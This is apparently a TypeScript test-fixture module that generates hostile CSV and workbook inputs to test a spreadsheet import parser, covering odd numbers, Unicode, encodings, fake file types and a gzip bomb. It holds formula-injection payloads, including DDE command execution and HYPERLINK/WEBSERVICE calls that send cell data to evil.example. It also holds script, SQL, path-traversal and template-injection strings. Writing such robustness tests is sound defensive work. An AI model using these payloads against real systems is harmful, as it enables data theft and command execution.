import { gzipSync } from 'node:zlib';
import { gbkText } from '../gbk-text';
import { zipBytes } from '../zip-bytes';
import { HEADING, named, RIGHT_ROW, type HostileFile } from './hostile-file';

const quoted = (cell: string) => (/[",;\t\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
const line = (cells: readonly string[]) => cells.map(quoted).join(',');
const HEAD = `${line(HEADING)}\n`;
const RIGHT = `${HEAD}${line(RIGHT_ROW)}\n`;

const file = (
  why: string,
  content: string | Uint8Array,
  becomes: HostileFile['becomes'],
  ending = 'csv',
): HostileFile => ({
  why,
  name: named(why, ending),
  bytes: new Uint8Array(Buffer.from(content as string)),
  becomes,
});
const read = (why: string, content: string | Uint8Array, ...rows: readonly (string | null)[][]): HostileFile =>
  file(why, content, rows.length > 0 ? rows : [[...RIGHT_ROW]]);
/** One cell that is read as it stands; blanks around it are nobody's meaning. */
const cell = (why: string, content: string, becomes: string | null = content.trim() || null): HostileFile =>
  read(why, `${HEAD}${line(['星河科技', content, '1'])}\n`, ['星河科技', becomes, '1']);
const refused = (why: string, content: string | Uint8Array, ending = 'csv') => file(why, content, 'refused', ending);

const utf16 = (text: string, order: 'le' | 'be', mark = true): Buffer => {
  const little = Buffer.from(`${mark ? '\ufeff' : ''}${text}`, 'utf16le');
  return order === 'le' ? little : little.swap16();
};

const FORMULAS: readonly (readonly [string, string])[] = [
  ['a command by DDE', "=cmd|' /C calc'!A0"],
  ['a link that carries data away', '=HYPERLINK("http://evil.example/?"&A1,"click")'],
  ['a sheet from the web', '=WEBSERVICE("http://evil.example/"&A1)'],
  ['a range import', '=IMPORTXML("http://evil.example","//a")'],
  ['a plus formula', '+1+cmd|x'],
  ['a minus formula', '-2+3+cmd|x'],
  ['an at formula', '@SUM(1+9)*cmd|x'],
  ['a formula behind a tab', '\t=1+1'],
  ['a formula behind a return', '"\r=1+1'],
  ['a formula in full width', '＝1＋1'],
  ['a formula behind a zero width space', '\u200b=1+1'],
  ['a macro call', '=EXEC("calc.exe")'],
];

const NUMBERS: readonly (readonly [string, string])[] = [
  ['no number', 'NaN'],
  ['an infinite number', 'Infinity'],
  ['a negative infinite number', '-Infinity'],
  ['the largest float', '1e308'],
  ['beyond the largest float', '1e400'],
  ['the smallest float', '5e-324'],
  ['negative zero', '-0'],
  ['a hexadecimal number', '0x1F'],
  ['an octal number', '0o17'],
  ['ninety nines', '9'.repeat(90)],
  ['arabic digits', '١٢٣'],
  ['digits of full width', '１２３'],
  ['a minus of mathematics', '−5'],
  ['two points', '1.2.3'],
  ['an exponent without a number', 'e5'],
  ['Roman numbers', 'Ⅻ'],
];

const LETTERS: readonly (readonly [string, string])[] = [
  ['text that runs from right to left', '\u202eexe.fdp'],
  ['Arabic', 'شركة'],
  ['zero width letters', 'a\u200b\u200c\u200d\ufeffb'],
  ['a family in one emoji', '👨‍👩‍👧‍👦'],
  ['a flag', '🏳️‍🌈'],
  ['a thousand accents', `e${'\u0301'.repeat(1000)}`],
  ['a line separator', 'a\u2028b'],
  ['isolates', '\u2066a\u2069'],
  ['a character of the private area', '\ue000'],
  ['a character of the fourth plane', '𠮷野家'],
  ['an escape of the terminal', '\u001b[2J'],
  ['a bell', 'a\u0007b'],
  ['markup', '<script>alert(1)</script>'],
  ['SQL', "'; drop table customer; --"],
  ['a path', '../../../etc/passwd'],
  ['a template', '{{constructor.constructor("return process")()}}'],
];

const DATES = ['1900-02-29', '1904-01-01', '0000-00-00', '99999-12-31', '2026-13-45', '-000001-01-01', '60', '2958466'];

const HEADINGS: readonly HostileFile[] = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'].map(
  name => read(`a column called ${name}`, `${HEAD.trim()},${name}\n${line(RIGHT_ROW)},x\n`, [...RIGHT_ROW, 'x']),
);

const wide = (columns: number) => Array.from({ length: columns }, (_, at) => `c${at}`);

const SHAPES: readonly HostileFile[] = [
  read('a heading twice', `${HEAD.trim()},级别\n${line(RIGHT_ROW)},B\n`, [...RIGHT_ROW, 'B']),
  read('a heading of five thousand letters', `${HEAD.trim()},${'长'.repeat(5000)}\n${line(RIGHT_ROW)},x\n`, [
    ...RIGHT_ROW,
    'x',
  ]),
  read('empty headings', `${HEAD.trim()},,,\n${line(RIGHT_ROW)},,,x\n`, [...RIGHT_ROW, null, null, 'x']),
  read('sixteen thousand headings', `${line([...HEADING, ...wide(16_381)])}\n${line(RIGHT_ROW)}\n`),
  read(
    'rows of different lengths',
    `${HEAD}星河科技\n${line(RIGHT_ROW)},1,2,3\n`,
    ['星河科技'],
    [...RIGHT_ROW, '1', '2', '3'],
  ),
  read('a hundred thousand empty lines', `${HEAD}${'\n'.repeat(100_000)}${line(RIGHT_ROW)}\n`),
  read('lines of commas only', `${HEAD}${',,\n'.repeat(10_000)}${line(RIGHT_ROW)}\n`),
  read('a cell of 32,768 letters', `${HEAD}${'字'.repeat(32_768)},A,1\n`, ['字'.repeat(32_768), 'A', '1']),
  read('lines within a cell', `${HEAD}"a\n\r\nb",A,1\n`, ['a\n\r\nb', 'A', '1']),
  read('lines that end by returns', RIGHT.replaceAll('\n', '\r')),
  read('lines that end in two ways', `${HEAD.trim()}\r\n${line(RIGHT_ROW)}\n`),
  read('no end of the last line', RIGHT.trim()),
  read('semicolons', RIGHT.replaceAll(',', ';')),
  read('tabs', RIGHT.replaceAll(',', '\t')),
  refused('a quote without an end', `${HEAD}"星河科技,A,1\n`),
  refused('a cell of two mebibytes', `${HEAD}${'x'.repeat(2 * 1024 * 1024)},A,1\n`),
  refused('a quoted cell of two mebibytes', `${HEAD}"${'x\n'.repeat(1024 * 1024)}",A,1\n`),
  refused('nothing', ''),
  refused('lines and nothing else', '\n\r\n\n'),
  refused('a mark and nothing else', '\ufeff'),
  refused('blanks and nothing else', ' \t \n  \n'),
];

const ENCODINGS: readonly HostileFile[] = [
  read('a mark', `\ufeff${RIGHT}`),
  read('GBK', gbkText(RIGHT)),
  read('UTF-16 of Windows', utf16(RIGHT, 'le')),
  read('UTF-16 of the other order', utf16(RIGHT, 'be')),
  read('packed text', gzipSync(RIGHT)),
  refused('UTF-16 without a mark', utf16(RIGHT, 'le', false)),
  refused('UTF-16 that ends in the middle', Buffer.concat([utf16(RIGHT, 'le'), Buffer.from([0x31])])),
  refused('half of a pair', Buffer.concat([utf16(HEAD, 'le'), Buffer.from([0x00, 0xd8, 0x0a, 0x00])])),
  refused(
    'UTF-32',
    Buffer.from([...RIGHT].flatMap(letter => [letter.charCodeAt(0) & 255, letter.charCodeAt(0) >> 8, 0, 0])),
  ),
  refused('bytes of no encoding', Buffer.concat([Buffer.from(HEAD), Buffer.from([0xff, 0xff, 0x80, 0x0a])])),
  refused('a NUL in a cell', `${HEAD}星\u0000河,A,1\n`),
  refused('NULs and nothing else', Buffer.alloc(4096)),
];

const OLD_EXCEL = Buffer.from('d0cf11e0a1b11ae1', 'hex');
const MISTAKEN: readonly HostileFile[] = [
  refused('an old workbook under a new name', Buffer.concat([OLD_EXCEL, Buffer.alloc(4096)]), 'xlsx'),
  refused('an encrypted workbook', Buffer.concat([OLD_EXCEL, Buffer.from('EncryptedPackage', 'utf16le')]), 'xlsx'),
  file('text under the name of a workbook', RIGHT, [[...RIGHT_ROW]], 'xlsx'),
  refused('a web page', '<html><table><tr><td>1</td></tr></table></html>', 'xls'),
  refused(
    'a workbook of 2003',
    '<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
    'xml',
  ),
  refused('a PDF', '%PDF-1.7\n1 0 obj', 'xlsx'),
  refused('a program', Buffer.concat([Buffer.from('MZ\u0090\u0000'), Buffer.alloc(2048)]), 'csv'),
  refused('a picture', Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(512)]), 'csv'),
  refused('a RAR archive', Buffer.concat([Buffer.from('Rar!\u001a\u0007\u0000'), Buffer.alloc(512)]), 'xlsx'),
  refused('a 7z archive', Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), Buffer.alloc(512)]), 'xlsx'),
  refused('a tar', Buffer.concat([Buffer.from('a.csv'), Buffer.alloc(507), Buffer.from(RIGHT)]), 'csv'),
  refused(
    'an open document',
    zipBytes({ mimetype: 'application/vnd.oasis.opendocument.spreadsheet', 'content.xml': '<x/>' }),
    'xlsx',
  ),
  refused('a binary workbook', zipBytes({ 'xl/workbook.bin': 'x' }), 'xlsx'),
  refused('a document of Word', zipBytes({ 'word/document.xml': '<w/>' }), 'xlsx'),
  refused('an archive of tables', zipBytes({ 'a.csv': RIGHT }), 'csv'),
  refused('a packed bomb', gzipSync(Buffer.alloc(64 * 1024 * 1024, 'a,'))),
  refused('a packed file that was cut off', gzipSync(RIGHT.repeat(2000)).subarray(0, 60)),
  refused('a packed file with a wrong sum', flipped(gzipSync(RIGHT), -6)),
];

function flipped(bytes: Uint8Array, at: number): Uint8Array {
  const copy = bytes.slice();
  copy[copy.length + at]! ^= 0x55;
  return copy;
}

/** What is no workbook, or says that it is one. */
export const hostileTextFiles = (): HostileFile[] => [
  ...FORMULAS.map(([why, text]) => cell(why, text)),
  ...NUMBERS.map(([why, text]) => cell(`${why}, as text`, text)),
  ...LETTERS.map(([why, text]) => cell(why, text)),
  ...DATES.map(text => cell(`the date ${text}`, text)),
  ...HEADINGS,
  ...SHAPES,
  ...ENCODINGS,
  ...MISTAKEN,
];
